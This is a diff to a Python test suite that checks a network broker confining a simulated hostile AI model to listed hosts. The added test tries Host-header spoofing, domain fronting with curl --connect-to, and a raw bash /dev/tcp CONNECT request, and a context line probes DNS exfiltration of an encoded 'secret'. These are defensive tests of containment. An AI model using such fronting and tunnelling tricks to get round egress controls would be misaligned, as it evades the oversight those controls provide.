@@ -1,4 +1,4 @@
-"""N1, N3, N4, N7, N8 through a whole daemon: a hostile model's commands reach what is listed, and nothing else."""
+"""N1, N3, N4, N5, N7, N8 through a whole daemon: a hostile model's commands reach what is listed, and nothing else."""
 
 import socket
 import sqlite3
@@ -120,6 +120,36 @@ async def test_n4_no_resolver_inside_and_no_packet_of_a_tunnel(world: World) -> 
             assert "No connection to" in await result(talk, curl("http://c2VjcmV0.example.org/"))
         with pytest.raises(BlockingIOError):
             resolver.recv(100)
+
+
+async def test_n5_what_is_said_in_a_tunnel_leads_nowhere_but_to_the_host_that_was_asked_for(world: World) -> None:
+    """Which name a program says in a tunnel is its own affair (docs/security.md): a server for many names may take it
+    for another one's. The broker follows no such name, and without a tunnel it says the name that was judged."""
+    home = world.home("a")
+    async with upstream(ANSWER) as there, upstream(ANSWER) as other:
+        listed, unlisted = f"127.0.0.1:{there.port}", f"127.0.0.1:{other.port}"
+        async with conversation(world, home, [listed]) as talk:
+            said = f"-H 'Host: {unlisted}'"
+            assert await result(talk, curl(f"http://{listed}/", "--proxytunnel", said)) == "REACHED!"
+            assert f"Host: {unlisted}\r\n".encode() in there.received[-1]
+            fronted = f"--connect-to other.test:443:{listed}"
+            await result(talk, curl("https://other.test/", fronted, "-k", "-m 2"))
+            assert there.received[-1].startswith(b"\x16\x03"), "no greeting of TLS"
+            assert b"other.test" in there.received[-1]
+            # The control: where the broker can read, its own word for the host stands there.
+            assert await result(talk, curl(f"http://{listed}/", said)) == "REACHED!"
+            assert f"Host: {listed}\r\n".encode() in there.received[-1]
+            assert unlisted.encode() not in there.received[-1]
+            # Nor does it take the name beside the target for the target.
+            head = f"CONNECT {listed} HTTP/1.1\\r\\nHost: {unlisted}\\r\\n\\r\\nhello!"
+            raw = f"exec 3<>/dev/tcp/127.0.0.1/3128; printf '{head}' >&3; timeout 5 head -c {39 + len(ANSWER)} <&3"
+            assert REACHED in await result(talk, raw)
+            assert there.received[-1] == b"hello!"
+        assert len(there.received) == 4
+        assert other.received == []
+    with sqlite3.connect(f"file:{home.database}?mode=ro", uri=True) as database:
+        rows = database.execute("SELECT DISTINCT subject FROM audit WHERE action LIKE 'network.%'").fetchall()
+    assert rows == [(listed,)]
 
 
 async def test_n8_the_broker_knows_no_secret_of_the_daemon(world: World) -> None:
